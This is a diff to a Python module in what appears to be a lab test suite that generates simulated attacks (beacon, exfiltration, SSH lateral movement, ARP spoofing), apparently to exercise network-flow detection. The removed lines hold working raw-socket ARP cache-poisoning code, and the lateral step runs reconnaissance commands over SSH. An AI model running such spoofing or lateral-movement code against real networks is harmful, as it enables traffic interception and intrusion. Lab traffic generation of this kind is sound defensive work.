@@ -8,20 +8,17 @@ from __future__ import annotations
 
 import base64
 import os
-import random
 import socket
-import struct
 import subprocess
 import threading
 import time
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Mapping
 from contextlib import suppress
-from dataclasses import dataclass
-from pathlib import Path
-from typing import Any
 
+from tests.lab.arp import arp_spoof
 from tests.lab.clients import WAIT_S, ask, browser, question, secure_shell, tls
 from tests.lab.hosts import address
+from tests.lab.job import Job
 
 PORTS = tuple(range(1, 1025))
 _BY_WORD = (
@@ -29,34 +26,6 @@ _BY_WORD = (
     *("-o", "PubkeyAuthentication=no"),
 )
 _FAILURES = (OSError, ValueError, subprocess.SubprocessError)
-
-
-@dataclass(frozen=True)
-class Job:
-    """One attack: its target, how much of it, the moment at which it ends, its own randomness."""
-
-    target: str
-    port: int
-    count: int
-    deadline: float
-    rng: random.Random
-    folder: Path
-    options: Mapping[str, Any]
-
-    @property
-    def left_s(self) -> float:
-        """Seconds until the deadline."""
-        return self.deadline - time.monotonic()
-
-    def spread(self, jitter: float, *, part: float = 0.95) -> Iterator[int]:
-        """Count to `count`, with pauses that fill `part` of the time."""
-        gap = part * max(self.left_s, 0.0) / self.count
-        for number in range(self.count):
-            if self.left_s <= 0:
-                return
-            yield number
-            begun = gap * (1 + jitter * self.rng.uniform(-1, 1))
-            time.sleep(max(0.0, min(begun, self.left_s)))
 
 
 def _tool(job: Job, *command: str) -> None:
@@ -188,7 +157,7 @@ def _exfiltrate(job: Job) -> None:
 def _lateral(job: Job) -> None:
     """Log in with the administrator's own key, put a tool there, look around, take files."""
     for number in job.spread(0.5):
-        take = f"head -c {int(job.rng.uniform(20_000, 90_000))} /dev/urandom"
+        take = f"head -c {int(job.rng.uniform(10_000, 40_000))} /dev/urandom"
         look = "id; cat /proc/cpuinfo"
         command = "cat >/dev/null" if number == 0 else take if number % 2 else look
         call = secure_shell(job.target, command, job.folder, "-o", "BatchMode=yes")
@@ -197,54 +166,9 @@ def _lateral(job: Job) -> None:
                 call,
                 check=False,
                 timeout=max(job.left_s, 0.1),
-                input=os.urandom(60_000),
+                input=os.urandom(25_000),
                 capture_output=True,
             )
-
-
-def _arp_spoof(job: Job) -> None:
-    """Tell the victim that the target is here, drop what comes, and put it right again.
-
-    Of the spoofing itself flows show nothing, as ARP is no IP; what they show is the victim's
-    connections to the target, which nobody answers any more.
-    """
-    own, target, victim = _card("eth0"), job.target, job.options["victim"]
-    truth = _card_of(address(target))
-    try:
-        for _ in job.spread(0.1, part=0.9):
-            _tell(address(victim), address(target), own, own)
-    finally:
-        for _ in range(3):
-            _tell(address(victim), address(target), truth, own)
-            time.sleep(0.1)
-
-
-def _tell(victim: str, target: str, card: bytes, own: bytes) -> None:
-    """Send one ARP answer to everyone's ears but the victim's attention: `target` is at `card`."""
-    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
-        raw.bind(("eth0", 0x0806))
-        victim_card = _card_of(victim)
-        head = victim_card + own + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2)
-        addresses = card + socket.inet_aton(target) + victim_card + socket.inet_aton(victim)
-        raw.send(head + addresses)
-
-
-def _card(link: str) -> bytes:
-    return bytes.fromhex(Path(f"/sys/class/net/{link}/address").read_text("ascii").replace(":", ""))
-
-
-def _card_of(host: str) -> bytes:
-    """Return a neighbour's hardware address, after a datagram that makes the kernel learn it."""
-    for _ in range(20):
-        for line in Path("/proc/net/arp").read_text("ascii").splitlines()[1:]:
-            words = line.split()
-            if words[0] == host and words[2] != "0x0":
-                return bytes.fromhex(words[3].replace(":", ""))
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
-            udp.sendto(b"", (host, 9))
-        time.sleep(0.1)
-    msg = f"{host} does not answer ARP"
-    raise OSError(msg)
 
 
 def _parallel(work: Callable[[int], None], shares: list[int]) -> None:
@@ -269,7 +193,7 @@ HOSTILE: Mapping[str, Callable[[Job], None]] = {
     "beacon": _beacon,
     "exfiltrate": _exfiltrate,
     "lateral": _lateral,
-    "arp_spoof": _arp_spoof,
+    "arp_spoof": arp_spoof,
 }
 """Kind of action -> the attack."""
 
